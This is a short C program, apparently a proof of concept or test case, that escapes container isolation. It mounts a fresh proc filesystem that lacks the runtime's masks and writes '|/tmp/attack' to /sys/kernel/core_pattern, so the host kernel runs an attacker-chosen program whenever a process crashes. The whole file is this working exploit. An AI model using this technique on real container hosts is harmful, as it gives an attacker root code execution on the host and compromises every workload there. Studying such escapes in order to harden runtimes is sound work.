// SPDX-License-Identifier: GPL-2.0-only
// A new mount of proc has none of the masks that a runtime lays over the first
// one: the program that the host starts at a crash is set there.
#include "mount/mounts.h"

int main(void)
{
	own_mounts();
	mount_at_point("proc", "proc", NULL);
	change(POINT "/sys/kernel/core_pattern", "|/tmp/attack");
}
